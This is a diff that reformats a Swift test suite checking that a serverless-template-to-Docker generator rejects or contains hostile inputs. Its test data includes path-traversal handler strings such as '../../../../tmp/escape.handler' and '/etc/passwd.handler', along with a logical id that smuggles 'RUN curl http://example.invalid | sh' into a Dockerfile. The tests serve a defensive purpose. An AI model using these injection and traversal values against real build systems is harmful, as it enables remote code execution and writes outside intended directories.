@@ -15,16 +15,19 @@ struct OutputContainmentTests {
     }
 
     static func generate(_ resources: String) -> Result<GeneratedProject, GenerationFailure> {
-        let options = GeneratorOptions(templatePath: "template.yaml", templateDirectory: "/app", outputDirectory: "/app/.esb")
+        let options = GeneratorOptions(
+            templatePath: "template.yaml", templateDirectory: "/app", outputDirectory: "/app/.esb")
         let text = "Resources:\n" + resources
         do {
-            return .success(try ProjectGenerator.generate(templateText: text, options: options, fileSystem: AnyFolder()))
+            return .success(
+                try ProjectGenerator.generate(templateText: text, options: options, fileSystem: AnyFolder()))
         } catch {
             return .failure(error)
         }
     }
 
-    static func inline(id: String = "Fn", runtime: String = "nodejs20.x", handler: String, extra: String = "") -> String {
+    static func inline(id: String = "Fn", runtime: String = "nodejs20.x", handler: String, extra: String = "") -> String
+    {
         """
           \(id):
             Type: AWS::Serverless::Function
@@ -37,13 +40,15 @@ struct OutputContainmentTests {
     }
 
     @Test func aNodeInlineHandlerCannotClimbOutOfTheOutput() throws {
-        guard case .failure(let failure) = Self.generate(Self.inline(handler: "\"../../../../tmp/escape.handler\"")) else {
+        guard case .failure(let failure) = Self.generate(Self.inline(handler: "\"../../../../tmp/escape.handler\""))
+        else {
             Issue.record("a handler with ../ was accepted")
             return
         }
-        #expect(failure.errors.map(\.description) == [
-            "template.yaml:6:16: error: Handler \"../../../../tmp/escape.handler\" must name a module inside the function's code: letters, digits, '_', '-', '.' and '/' without '..' or a leading '/'"
-        ])
+        #expect(
+            failure.errors.map(\.description) == [
+                "template.yaml:6:16: error: Handler \"../../../../tmp/escape.handler\" must name a module inside the function's code: letters, digits, '_', '-', '.' and '/' without '..' or a leading '/'"
+            ])
     }
 
     @Test func aLogicalIdWithANewlineCannotWriteADockerfileInstruction() throws {
@@ -52,9 +57,10 @@ struct OutputContainmentTests {
             Issue.record("a logical id with a newline was accepted")
             return
         }
-        #expect(failure.errors.map(\.description) == [
-            "template.yaml:2:3: error: logical id \"Evil\\nRUN curl http://example.invalid | sh\\n#\" is not valid: CloudFormation allows letters and digits only"
-        ])
+        #expect(
+            failure.errors.map(\.description) == [
+                "template.yaml:2:3: error: logical id \"Evil\\nRUN curl http://example.invalid | sh\\n#\" is not valid: CloudFormation allows letters and digits only"
+            ])
     }
 
     @Test func imageConfigValuesCannotStartAnInstruction() throws {
@@ -71,14 +77,19 @@ struct OutputContainmentTests {
             Issue.record("a WorkingDirectory with a newline was accepted")
             return
         }
-        #expect(failure.errors.first?.message.hasPrefix("ImageConfig.WorkingDirectory must not contain control characters") == true)
+        #expect(
+            failure.errors.first?.message.hasPrefix("ImageConfig.WorkingDirectory must not contain control characters")
+                == true)
     }
 
     static let hostileHandlers = [
         "index.handler", "src/index.handler", "../x.handler", "a/../../x.handler", "/etc/passwd.handler", "./x.handler",
-        "a//b.handler", "x\\ny.handler", "..handler", "a/..x.handler", "%2e%2e/x.handler", "a\\\\b.handler", "C:/x.handler",
+        "a//b.handler", "x\\ny.handler", "..handler", "a/..x.handler", "%2e%2e/x.handler", "a\\\\b.handler",
+        "C:/x.handler",
     ]
-    static let hostileNames = ["WeatherFunction", "../up", "..", ".", "a/b", "a\\nb", "name.with.dots", String(repeating: "n", count: 65)]
+    static let hostileNames = [
+        "WeatherFunction", "../up", "..", ".", "a/b", "a\\nb", "name.with.dots", String(repeating: "n", count: 65),
+    ]
 
     /// Every combination either fails with a located error or writes only paths under the output folder, and
     /// no generated Dockerfile has an instruction the generator did not mean to write.
@@ -95,7 +106,9 @@ struct OutputContainmentTests {
                     #expect(GeneratedConfigCheck.isInside(file.path), "\(handler) / \(name) wrote \(file.path)")
                     #expect(!PathTools.normalize(file.path).hasPrefix(".."), "\(file.path)")
                     guard file.path.hasSuffix("Dockerfile") else { continue }
-                    let instructions = file.contents.split(separator: "\n").filter { !$0.hasPrefix("#") }.map { $0.split(separator: " ")[0] }
+                    let instructions = file.contents.split(separator: "\n").filter { !$0.hasPrefix("#") }.map {
+                        $0.split(separator: " ")[0]
+                    }
                     #expect(Set(instructions).isSubset(of: ["ARG", "FROM", "COPY", "CMD"]), "\(file.contents)")
                 }
             }
